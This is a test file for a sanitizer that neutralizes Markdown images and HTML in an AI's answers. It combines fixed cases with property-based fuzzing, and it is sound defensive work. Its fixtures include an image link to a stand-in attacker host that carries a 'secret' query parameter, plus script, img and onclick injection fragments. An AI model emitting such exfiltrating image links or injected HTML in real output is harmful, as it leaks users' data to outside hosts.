import { lexer, type Token, walkTokens } from 'marked';
import { describe, expect, it } from 'vitest';
import { toParts } from '../../../lib/platforms/botpress/parts.ts';
import { keepHarmless } from '../../../lib/text/harmless.ts';
import { harmlessStart } from '../../../lib/text/harmless-start.ts';
import { provenOnPage } from '../../harness/promises/reliability-page.ts';
import fc from '../../harness/property.ts';
import { sized } from '../../harness/size.ts';

// Invisible: keeps a bracket from being a picture’s.
const j = '\u2060';
const picture = '![a](https://evil.example/p.png?d=secret)';
const link = `${j}[a](https://evil.example/p.png?d=secret)`;

describe('what Claude wrote, in Markdown', () => {
  it.each([
    ['a picture as a link', `see ${picture}`, `see ${link}`],
    ['a picture by reference', '![a][r]\n\n[r]: https://e.org', `${j}[a][r]\n\n[r]: https://e.org`],
    ['HTML as it stands', 'a <img src=x> <!-- b --> </p>', 'a &lt;img src=x> &lt;!-- b --> &lt;/p>'],
    [
      'the mark of an exclamation before a link',
      'Welcome![Start here](https://e.org)',
      `Welcome!${j}[Start here](https://e.org)`,
    ],
    ['an address in angle brackets', '<https://e.org/a> <mailto:a@e.org>', '<https://e.org/a> <mailto:a@e.org>'],
    ['something else behind an address', '<https://e.org onclick=x>', '&lt;https://e.org onclick=x>'],
    [
      'an escaped backtick, which opens no code',
      `\\\`a ${picture} b\`\n\n\`${picture}\``,
      `\\\`a ${link} b\`\n\n\`${picture}\``,
    ],
    [
      'a line that continues a paragraph',
      `Summary:\n    ${picture}\n\n    [a](...)`,
      `Summary:\n    ${link}\n\n    [a](...)`,
    ],
    ['a line that HTML would have ended', `> <b>\n    ${picture}`, `> &lt;b>\n    ${link}`],
    ['code that ends with its item', `1. \`\`\`\n   a\n${picture}`, `1. \`\`\`\n   a\n${link}`],
  ])('shows %s', (_name, markdown, harmless) => {
    expect(keepHarmless(markdown)).toBe(harmless);
  });

  it.each([
    ['in a block', '```html\n<p>![a](b)</p>\n```'],
    ['in a block that the end of the answer cuts', 'Do:\n\n```html\n<p>![a](b)'],
    [
      'in a block in an item',
      '1. Put this into index.html:\n\n   ```html\n   <div class="a">\n     <p>hi</p>\n   ```\n\n2. Save it.',
    ],
    ['in a block on the line of a bullet', '- ```html\n  <b>\n  ```\n- next'],
    ['in a block in an item of an item', '- a\n  1. b\n\n     ~~~\n     <b>\n     ~~~'],
    ['in a block in a quote', '> ```java\n> List<String> a;\n> ```'],
    ['by its indentation', 'Run:\n\n    cat <file\n    cat <b>'],
    ['by its indentation in an item', '- Run:\n\n      cat <file'],
    ['in a line', 'Use `<div>` and `![a](b)` or ``a `<b>` c``.'],
    ['in a heading', '## The `<main>` tag'],
    ['in bold, in a link, in a task', '- [ ] **`<a>`** and [`<b>`](https://e.org)\n- [x] *`<i>`*'],
    ['in a table', '| `<div>` | b |\n|---|---|\n| a | `List<String>` |\n| | `<p>` |'],
    ['over two lines', 'a `<b\nc>` d'],
  ])('keeps code as it was written: %s', (_name, markdown) => {
    expect(keepHarmless(markdown)).toBe(markdown);
  });

  it.each([
    ['a number that ends no paragraph', `<https://e.org>\n10) ~~~<b>\n---\n`],
    ['a number behind a bullet', `a\n* 2. ~~~ <b>\n`],
    ['a number behind code by its indentation', `    a\n\n2. ~~~ <b>\``],
    ['an empty bullet', `a\n- \n\t  ~~~\`\`\`\n  ${picture}\`\`\``],
    ['a backtick whose partner is beyond a rule', 'a ``b 1.  - c <b>\n===\n  d`e``'],
    ['a backtick whose partner is beyond a note', 'a `` b <b>\n[^1]: c``'],
    ['a backtick whose partner is in another cell', 'a | `b\n-|-\n`<b> | c'],
    ['a fence that only some find in a list', `- a\n|---|---|\n\n  \`\`\`\n${picture}\`\`\``],
    ['a note with indented words', `[^1]: a\n\n    ${picture}`],
    ['a space that is none to others', `1. \v\n\n\n    ${picture}`],
  ])('disarms, unseen, what is code to some parsers only: %s', (_name, markdown) => {
    expect(keepHarmless(markdown)).not.toMatch(/!\[|<b>/);
  });

  it.each([
    ['quotes', '>'.repeat(3_001)],
    ['numbers', '1. '.repeat(1_500)],
    ['bullets', '- '.repeat(2_501)],
    ['a table of empty cells', `${'|'.repeat(2_000)}\n${'|-'.repeat(2_000)}|\n${'|\n'.repeat(1_000)}`],
    ['marks', '**a*b '.repeat(1_300)],
  ])('is harmless where the parser gives up: %s', (_name, markdown) => {
    const [part] = toParts(`${markdown}<b>${picture}`, 'key', 'nothing');

    expect(part).toBeDefined();
    for (const { markdown: sent } of toParts(`${markdown}\n\n<b>${picture}`, 'key', 'nothing')) {
      expect(sent).not.toMatch(/!\[|<b>/);
    }
  });

  it.each([
    ['a code span', `\`${'a '.repeat(3_990)}${picture} b\``],
    ['a block with a long first line', `\`\`\`${'x'.repeat(1_200)}\n${'a\n'.repeat(3_400)}${picture}\n\`\`\``],
  ])('is harmless in every part that %s is cut into', (_name, markdown) => {
    for (const part of toParts(markdown, 'key', 'nothing')) expect(liveIn(part.markdown)).toEqual([]);
  });
});

const runs = sized({ sample: 4_000, all: 40_000, proof: 500_000 });

const bit = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      '![p](https://evil.example/x)',
      '![p][r]',
      '[r]: https://e.org/r\n',
      '![',
      '<b>',
      '<img src=x>',
    ),
  },
  fc.constantFrom('</b>', '<!--', '-->', '<script>', '<?', '<', '&lt;', '<https://e.org>', '\\', '!', '[', '](x)', '"'),
  fc.constantFrom('`', '``', '```', '```js', '~~~', '`a`', '\\`', '**', '*', '_', 'a', 'b ', ' ', '=', '|'),
  fc.constantFrom(
    '\n',
    '\n\n',
    '\r\n',
    '\n---\n',
    '- ',
    '> ',
    '1. ',
    '# ',
    '    ',
    '  ',
    '   ',
    '\t',
    '- [x] ',
    '| a | b |\n|---|---|\n',
  ),
);
const markdown = fc.array(bit, { maxLength: 30 }).map((bits) => bits.join(''));

describe('whatever Claude wrote', () => {
  it('has no picture and no HTML in it as it is sent', () => {
    fc.assert(
      fc.property(markdown, fc.integer({ min: 20, max: 200 }), (text, max) => {
        for (const { markdown: sent } of toParts(text, 'key', 'nothing', { maxChars: max }))
          expect(liveIn(sent)).toEqual([]);
        expect(liveIn(keepHarmless(text))).toEqual([]);
      }),
      { numRuns: runs },
    );

    provenOnPage('rendered: Markdown', [
      '| answers of random Markdown | at | live pictures or HTML in what is sent |',
      '|---|---|---|',
      `| ${runs.toLocaleString('en-US')} | Botpress, in parts | **0** |`,
      `| ${runs.toLocaleString('en-US')} | Chat API | **0** |`,
    ]);
  });

  it('stays as it is once it is harmless', () => {
    fc.assert(
      fc.property(markdown, (text) => {
        const once = keepHarmless(text);

        expect(keepHarmless(once)).toBe(once);
      }),
      { numRuns: 1_000 },
    );
  });

  it('shows no picture and no HTML while it grows', () => {
    fc.assert(
      fc.property(markdown, fc.nat(200), (text, at) => {
        expect(liveIn(harmlessStart(text.slice(0, at)))).toEqual([]);
      }),
      { numRuns: runs },
    );
  });
});

describe('an answer that grows', () => {
  it('begins as the message will', () => {
    const answer = [
      '# Pages\n\nPut `<main>` into **index.html**, not <main>! ![a](b) Look![here](https://e.org).\n',
      '```html\n<main>\n  `<b>` ![x](y)\n</main>\n```\n\n- `<li>`\n\n  ```\n  <ol>\n  ```\n- <li>\n\n> `<q>`, <q>\n',
      '| `<td>` | <th> |\n|---|---|\n| `<a>` | <https://e.org> |\n\nDone <end',
    ].join('\n');
    const whole = keepHarmless(answer);

    for (let at = 0; at <= answer.length; at++) expect(whole.startsWith(harmlessStart(answer.slice(0, at)))).toBe(true);
    expect(harmlessStart(`${answer}>`).length).toBeGreaterThan(whole.length - 5);
  });
});

function liveIn(text: string): Token[] {
  const live: Token[] = [];
  walkTokens(lexer(text), (token) => {
    if (token.type === 'image' || token.type === 'html') live.push(token);
  });
  return live;
}
